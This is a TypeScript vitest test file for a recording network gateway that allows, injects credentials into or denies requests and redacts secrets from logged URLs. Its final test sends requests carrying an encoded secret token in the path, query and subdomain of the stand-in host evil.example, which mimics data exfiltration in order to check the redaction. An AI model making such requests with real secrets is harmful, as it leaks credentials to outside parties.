import { describe, expect, test } from "vitest";
import { get, post, recordGateway, secrets, threeHosts } from "../recorded_gateway.ts";

test("every request has one row, in order, and numbering restarts after each drain", async () => {
  const { gateway, logged } = recordGateway(threeHosts, () => new Response("0123456789"));
  await gateway.fetch(get("https://open.example.com/a"));
  await gateway.fetch(post("https://api.example.com/v1/b", "body"));
  await gateway.fetch(get("https://evil.example/c"));
  expect(gateway.drain()).toMatchObject([
    {
      n: 1,
      method: "GET",
      url: "https://open.example.com/a",
      host: "open.example.com",
      action: "allow",
      policy: "under_test",
      rule: 1,
      reason: "rule",
      credential: null,
      status: 200,
      bytes_in: 10,
      bytes_out: 0,
    },
    {
      n: 2,
      method: "POST",
      action: "inject",
      rule: 0,
      credential: "TOKEN",
      status: 200,
      bytes_in: 10,
      bytes_out: 4,
    },
    {
      n: 3,
      host: "evil.example",
      action: "deny",
      rule: null,
      reason: "no_rule",
      credential: null,
      status: null,
      bytes_in: 0,
      bytes_out: 0,
    },
  ]);
  expect(gateway.drain()).toEqual([]);
  expect(logged).toHaveLength(3);
  await gateway.fetch(get("https://open.example.com/a"));
  expect(gateway.drain()).toMatchObject([{ n: 1 }]);
});

describe("the URL of a row", () => {
  test.each([
    [
      "https://open.example.com/a?page=2&sort=-name",
      "https://open.example.com/a?page=2&sort=-name",
    ],
    ["https://open.example.com/a?api_key=x1", "https://open.example.com/a?api_key=***"],
    [
      "https://open.example.com/a?X-Amz-Signature=abc",
      "https://open.example.com/a?X-Amz-Signature=***",
    ],
    ["https://open.example.com/a?q=AKIA0123456789ABCDEFGH", "https://open.example.com/a?q=***"],
    ["https://open.example.com/a?AKIA0123456789ABCDEFGH", "https://open.example.com/a?***"],
    ["https://open.example.com/a?flag", "https://open.example.com/a?flag"],
    ["https://user:pass@open.example.com/a", "https://***@open.example.com/a"],
    ["https://user:pass@bad host/a?b=c", "https://***@bad host/a"],
    ["data:text/plain,hello", "data:***"],
    [`https://open.example.com/${secrets.OTHER}/x`, "https://open.example.com/[redacted]/x"],
  ])("%s is logged as %s", async (url, logged) => {
    const { gateway } = recordGateway(threeHosts, () => new Response());
    await gateway.fetch(get(url));
    expect(gateway.drain()[0]?.url).toBe(logged);
  });
});

test("the log line contains no query", async () => {
  const { gateway, logged } = recordGateway(threeHosts, () => new Response());
  await gateway.fetch(get("https://open.example.com/a?page=2"));
  expect(logged[0]?.url).toBe("https://open.example.com/a");
});

test("no row, log line or response contains a secret", async () => {
  const { gateway, logged } = recordGateway(threeHosts, () => {
    throw new Error("down");
  });
  const value = encodeURIComponent(secrets.TOKEN ?? "");
  const responses = await Promise.all([
    gateway.fetch(get(`https://evil.example/${value}?x=${value}`)),
    gateway.fetch(get(`https://api.example.com/v1/${value}`)),
    gateway.fetch({ ...get("https://open.example.com/"), method: secrets.TOKEN ?? "" }),
    gateway.fetch(get(`https://${secrets.OTHER}.evil.example/`)),
  ]);
  const bodies = responses.map(({ body }) => new TextDecoder().decode(body));
  const text = JSON.stringify([gateway.drain(), logged, bodies]);
  expect(text).not.toContain(value);
  expect(text).not.toContain(secrets.TOKEN);
  expect(text).not.toContain(secrets.OTHER);
});
